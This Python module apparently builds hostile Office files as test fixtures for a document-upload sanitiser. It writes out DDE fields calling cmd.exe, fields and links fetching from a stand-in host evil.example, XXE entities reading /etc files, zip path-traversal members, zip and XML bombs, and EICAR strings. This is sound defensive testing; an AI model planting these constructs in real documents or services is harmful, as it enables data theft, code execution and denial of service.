"""Word documents with macros, fields that call, other files inside, names that lead out, and parts without end."""

import functools
import io
import stat
import zipfile
from collections.abc import Iterator

import docx

from tests.documents.hostile import CANARY, EICAR
from tests.documents.hostile.lies import SCRIPT, zipped
from tests.documents.hostile.pictures import picture, png, with_place

DOCUMENT, TYPES, LINKS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OFFICE = "application/vnd.openxmlformats-officedocument"
MACRO_ENABLED = "application/vnd.ms-word.document.macroEnabled"
EVIL = f"http://evil.example/{CANARY}"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
ENTITIES = {
    "reads a file": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/{CANARY}">]>',
    "calls": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
    "laughs a billion times": '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;&x;&x;">]>',
}


def parts(picture_inside: bytes = b"") -> dict[str, bytes]:
    """An ordinary document, part by part."""
    return dict(made_once(picture_inside))


@functools.cache
def made_once(picture_inside: bytes) -> dict[str, bytes]:
    document = docx.Document()
    document.add_paragraph("An ordinary note.")
    document.core_properties.author = CANARY
    if picture_inside:
        document.add_picture(io.BytesIO(picture_inside))
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(out) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(content: dict[str, bytes]) -> bytes:
    return zipped(**content)


def with_text(xml: str, **more: bytes) -> bytes:
    """The document with this in a paragraph."""
    found = parts()
    found[DOCUMENT] = found[DOCUMENT].replace(b"<w:sectPr", f"<w:p>{xml}</w:p><w:sectPr".encode(), 1)
    return packed(found | more)


def with_link(kind: str, target: str, xml: str = "", mode: str = "External") -> bytes:
    """The document with a relationship to somewhere, and what uses it."""
    found = parts()
    link = f'<Relationship Id="rId999" Type="{RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    found[LINKS] = found[LINKS].replace(b"</Relationships>", link.encode())
    found[DOCUMENT] = found[DOCUMENT].replace(b"<w:sectPr", f"<w:p>{xml}</w:p><w:sectPr".encode(), 1)
    return packed(found)


def with_part(name: str, kind: str, content: bytes) -> bytes:
    found = parts()
    override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    found[TYPES] = found[TYPES].replace(b"</Types>", override.encode())
    return packed(found | {name: content})


def of_type(kind: str) -> bytes:
    found = parts()
    found[TYPES] = found[TYPES].replace(MAIN.encode(), kind.encode())
    return packed(found)


def with_member(name: str, *, link: bool = False) -> bytes:
    out = io.BytesIO(packed(parts()))
    member = zipfile.ZipInfo(name)
    member.external_attr = (stat.S_IFLNK if link else stat.S_IFREG) << 16
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(member, b"/etc/passwd")
    return out.getvalue()


def marked_encrypted() -> bytes:
    found = bytearray(packed(parts()))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = found.find(sign)
        while at >= 0:
            found[at + offset] |= 1
            at = found.find(sign, at + 4)
    return bytes(found)


def overlapping() -> bytes:
    """Every member of the list is the same bytes: small outside, large inside."""
    bomb = zipped(bomb=bytes(20_000_000))
    at, end = bomb.index(b"PK\x01\x02"), bomb.index(b"PK\x05\x06")
    entry = bomb[at:end]
    entries = b"".join(entry.replace(b"bomb", b"b%03d" % each) for each in range(400))
    ending = bytearray(bomb[end:])
    ending[8:10] = ending[10:12] = (400).to_bytes(2, "little")
    ending[12:16] = len(entries).to_bytes(4, "little")
    return bomb[:at] + entries + bytes(ending)


def field(instruction: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{letters}</w:instrText></w:r>" for letters in instruction.split("|"))
    kind = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return kind.format("begin") + runs + kind.format("separate") + "<w:r><w:t>shown</w:t></w:r>" + kind.format("end")


def files() -> Iterator[tuple[str, str, bytes]]:
    macro = "application/vnd.ms-office.vbaProject"
    drawing = '<w:r xmlns:v="urn:schemas-microsoft-com:vml"><w:pict><v:shape>{}</v:shape></w:pict></w:r>'
    used = f'xmlns:r="{RELATION}" r:id="rId999"'
    link = f"<w:hyperlink {used}><w:r><w:t>a</w:t></w:r></w:hyperlink>"
    control = f"<w:object><w:control {used}/></w:object>"
    acting = {
        "macros": with_part("word/vbaProject.bin", macro, EICAR[::-1]),
        "macros under another name": with_part("word/styles.bin", macro, b"x"),
        "the type of one with macros": of_type(f"{MACRO_ENABLED}.main+xml"),
        "the type of a template with macros": of_type(f"{MACRO_ENABLED}Template.main+xml"),
        "the type of a template": of_type(MAIN.replace("document", "template", 1)),
        "the type of a page": of_type("text/html"),
        "DDE": with_text(field(f"DDE cmd {CANARY}")),
        "DDE by itself": with_text(field(f"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe {CANARY}")),
        "DDE in pieces": with_text(field(f"D|D|E|AUTO |{CANARY}")),
        "DDE in a simple field": with_text(f'<w:fldSimple w:instr="DDEAUTO {CANARY}"/>'),
        "a picture that a field fetches": with_text(field(f"INCLUDEPICTURE http://evil.example/{CANARY}")),
        "text that a field fetches": with_text(field(f"INCLUDETEXT file:///etc/{CANARY}")),
        "a link": with_link("hyperlink", EVIL, link),
        "a link to a file": with_link("hyperlink", f"file:///c:/{CANARY}", link),
        "a picture from elsewhere": with_link("image", EVIL, drawing.format(f"<v:imagedata {used}/>")),
        "a picture with its address": with_text(drawing.format(f'<v:imagedata src="http://evil.example/{CANARY}"/>')),
        "a template from elsewhere": with_link("attachedTemplate", EVIL),
        "a document inside from elsewhere": with_link("subDocument", f"file:///{CANARY}", f"<w:subDoc {used}/>"),
        "a frame": with_link("frame", EVIL),
        "an object from elsewhere": with_link("oleObject", f"mhtml:{EVIL}!x", control),
        "a page inside": with_part("word/afchunk.htm", "text/html", SCRIPT.encode()),
        "an object inside": with_part("word/embeddings/oleObject1.bin", f"{OFFICE}.oleObject", b"\xd0\xcf\x11\xe0"),
        "a document inside": with_part("word/embeddings/a.docx", f"{OFFICE}.package", packed(parts())),
        "a program inside": with_part("word/embeddings/a.exe", "application/octet-stream", b"MZ" + CANARY.encode()),
        "ActiveX": with_part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<a/>"),
        "its author": packed(parts()),
        "data of an office": with_part("customXml/item1.xml", "application/xml", f"<a>{CANARY}</a>".encode()),
        "a drawing of code": with_part("word/media/a.svg", "image/svg+xml", SCRIPT.encode()),
        "a drawing of Windows": with_part("word/media/a.emf", "image/x-emf", bytes(100)),
        "a picture that tells where": packed(parts(picture("JPEG", exif=with_place()))),
        "a pixel flood": packed(parts(picture("PNG")) | {"word/media/image1.png": png(width=20000, height=20000)}),
        "a virus as a picture": packed(parts(picture("PNG")) | {"word/media/image1.png": EICAR}),
        "a virus beside": packed(parts() | {"word/x.txt": EICAR}),
    }  # fmt: skip
    for what, declaration in ENTITIES.items():
        found = parts()
        whole = found[DOCUMENT].replace(b"?>", b"?>" + declaration.encode(), 1)
        acting[f"an entity that {what}"] = packed(found | {DOCUMENT: whole})
        acting[f"an entity in UTF-16 that {what}"] = packed(
            found | {DOCUMENT: whole.decode().replace("UTF-8", "UTF-16").encode("utf-16")}
        )
        acting[f"an entity in its types that {what}"] = packed(
            found | {TYPES: found[TYPES].replace(b"?>", b"?>" + declaration.encode(), 1)}
        )
    packages = {
        "a member that leads up": with_member("../../../etc/cron.d/x"),
        "a member at the root": with_member("/etc/passwd"),
        "a member of Windows": with_member("..\\..\\x"),
        "a member at a drive": with_member("C:x"),
        "a member that is a link": with_member("word/link", link=True),
        "a member twice": with_member("WORD/DOCUMENT.XML"),
        "a password": marked_encrypted(),
        "a part that unfolds": packed(parts() | {"word/x.xml": bytes(100_000_000)}),
        "many parts": packed(parts() | {f"word/{each}.xml": b"<a/>" for each in range(5000)}),
        "members that overlap": overlapping(),
        "elements in elements": packed(parts() | {DOCUMENT: b"<a>" * 100_000}),
        "an attribute without end": packed(parts() | {DOCUMENT: b'<a b="' + b"x" * 20_000_000 + b'"/>'}),
        "half of it": packed(parts())[:4000],
        "a page before its beginning": SCRIPT.encode() + packed(parts()),
        "no document": zipped(**{TYPES: b"<Types/>"}),
    }
    for what, content in (acting | packages).items():
        yield f"a Word document with: {what}", "report.docx", content
    for name, kind in {"xlsm": "spreadsheetml.sheet", "xlsx": "spreadsheetml.sheet", "pptx": "presentationml"}.items():
        yield (
            f"an office file, {name}",
            f"report.{name}",
            of_type(f"{OFFICE}.{kind}+xml"),
        )
    for name in ("odt", "epub", "jar", "apk"):
        yield f"an archive, {name}", f"report.{name}", zipped(mimetype=b"application/x", content=b"x")
